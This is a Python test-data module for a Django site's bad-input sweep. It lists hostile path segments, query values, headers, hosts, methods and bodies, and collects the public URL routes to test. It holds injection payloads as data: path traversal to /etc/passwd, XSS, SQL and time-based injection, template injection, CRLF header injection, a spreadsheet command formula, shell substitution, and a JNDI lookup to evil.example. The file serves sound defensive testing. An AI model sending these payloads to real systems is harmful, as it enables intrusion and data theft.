"""Hostile values for the bad-input sweep (test_bad_input.py), and the public URL patterns.

The patterns come from the URL resolver, so a route added later is swept
without anyone listing it here.
"""

from django.urls import URLPattern, URLResolver, get_resolver

# Not swept: the admin (never public; its own permission checks and forms)
# and /media/, which Django serves only in development and tests
# (SERVE_MEDIA_LOCALLY); in production the web server in front does.
PRIVATE_PREFIXES = ("admin/", "^media/")

# Whole path segments put where a pattern takes a value, or after a page's path.
PATH_SEGMENTS = [
    "..", "../..", "..%2F..%2Fetc%2Fpasswd", "%2e%2e%2f%2e%2e%2f", "....//....//etc/passwd",
    "%00", "a%00b", "%ff%fe", "%c0%af", "%25", "%", "%zz", "~root", ".env", ".git/config",
    "wp-login.php", "index.php?x=1", "cgi-bin%2Fbash", "<script>alert(1)</script>",
    "%3Cscript%3Ealert(1)%3C%2Fscript%3E", "\"onmouseover=alert(1)\"", "'%20OR%201=1--",
    "1;DROP%20TABLE%20wagtailcore_page", "$(id)", "`id`", "{{7*7}}", "${7*7}", "{%25%20debug%20%25}",
    "0", "-1", "00000000001", "99999999999999999999999999", "1e308", "NaN", "null", "undefined",
    "true", "%20", "%09", "%0d%0aSet-Cookie:%20x=1", "%E2%80%AE", "%EF%BB%BF", "%F0%9F%92%A5",
    "Ti%E1%BA%BFng", "%E0%BA%A5%E0%BA%B2%E0%BA%A7", "a" * 300, "b/" * 60, "x" * 2000,
    "CON", "aux.txt", "page.html.", "tin%2Ftuc", "%5C..%5C..%5Cwindows", "..;/", "/", "//evil.example",
    "https:%2F%2Fevil.example", "javascript:alert(1)", "data:text/html,x", "a%2Fb", "%252e%252e%252f",
]

# Values given to every query parameter a public view reads, and to a few it does not.
QUERY_VALUES = [
    "", " ", "-1", "0", "1.5", "1e3", "99999999999999999999999999", "-99999999999999999999",
    "abc", "NaN", "Infinity", "0x10", "١٢", "१", "½", "None", "null", "[]", "{}", "true",
    "<script>alert(1)</script>", "\"><img src=x onerror=alert(1)>", "'; DROP TABLE x; --",
    "' OR '1'='1", "%00", "\x00", "\x00\x01\x02", "\ufffd", "\u202e", "%ED%A0%BD", "💥",
    "Sơn La", "ສະບາຍດີ", "thong tin doi ngoai", "a" * 5000, "x " * 2000, "*", "?", "%", "_",
    "\\", "\\\\\\", "'", "\"", "`", "(", ")", "[", "]", "{", "}", "|", "&&", "||", "!",
    "~", "^", "$", "#", "::", "--", "/*", "*/", "AND", "OR NOT", "\"unclosed", "-minus",
    "+plus", "title:x", "2026-02-30", "1970-01-01", "9999-12-31", "../../etc/passwd",
    "http://evil.example/", "javascript:alert(1)", "\r\nX-Injected: 1", "  spaced  ",
    "1 OR 1=1", "1; SELECT pg_sleep(5)", "1' AND SLEEP(5)#", "{{7*7}}", "${jndi:ldap://evil.example/a}",
    "<svg/onload=alert(1)>", "</title><script>alert(1)</script>", "&#x3C;script&#x3E;", "%3Cscript%3E",
    "=cmd|' /C calc'!A0", "@SUM(1+1)", "\u0000", "ＡＢＣ", "ﬁ", "ß", "İ", "ǅ", "Ꭰ", "\u200b\u200c\u200d",
]

QUERY_NAMES = ["page", "q", "section", "order", "from", "to", "date_from", "date_to", "lang", "format", "utm_source"]

ACCEPT_LANGUAGES = [
    "", "*", "xx", "xx-YY", "lo", "lo-LA", "vi-VN,vi;q=0.9", "en;q=abc", "en;q=-1", "en;q=2",
    "fr, de;q=0.5", "zh-Hant-TW", "i-klingon", "x-pig-latin", "en" * 300, ",,,,", ";;;;",
    "q=0.5", "en;;q=1", "\u00e9n", "en\x00", "../../etc", "<script>", "vi-" + "a" * 100,
]

HOSTS = [
    "evil.example", "sonla.gov.vn.evil.example", "localhost:99999", "[::1", "a" * 300,
    "sonla.gov.vn:abc", "-sonla", "sonla..gov.vn", "sonla.gov.vn/evil", "sonla gov vn",
    "127.0.0.1:8000@evil", "%00", "xn--", "\u00e9vil.example", "", "sonla.gov.vn:", "sonla.gov.vn.",
    "SONLA.GOV.VN:443:443",
]

METHODS = ["POST", "PUT", "PATCH", "DELETE", "OPTIONS", "TRACE", "PROPFIND", "CONNECT", "FOO"]

# Bodies sent with POST: (content type, body).
BODIES = [
    ("application/x-www-form-urlencoded", b"q=" + b"a" * (17 * 1024 * 1024)),  # over DATA_UPLOAD_MAX_MEMORY_SIZE (16 MB)
    ("application/x-www-form-urlencoded", b"&".join(b"f%d=1" % i for i in range(20_000))),  # too many fields
    ("multipart/form-data; boundary=zzz", b"--zzz\r\nContent-Disposition: form-data; name=\"x\"\r\n\r\n"),
    ("multipart/form-data", b"garbage"),
    ("application/json", b"{\"q\": " * 1000),
    ("text/plain", b"\x00\xff" * 1000),
]


def hostile_value_count():
    return (
        len(PATH_SEGMENTS) + len(QUERY_VALUES) + len(ACCEPT_LANGUAGES) + len(HOSTS) + len(METHODS) + len(BODIES)
    )


def public_patterns():
    """``(route, pattern)`` for every URL pattern outside the admin, nested includes expanded."""
    found = []

    def walk(patterns, prefix):
        for entry in patterns:
            route = prefix + str(entry.pattern)
            if route.startswith(PRIVATE_PREFIXES) or (route.lstrip("^").startswith(PRIVATE_PREFIXES)):
                continue
            if isinstance(entry, URLResolver):
                walk(entry.url_patterns, route)
            elif isinstance(entry, URLPattern):
                found.append((route, entry))

    walk(get_resolver().url_patterns, "")
    return found
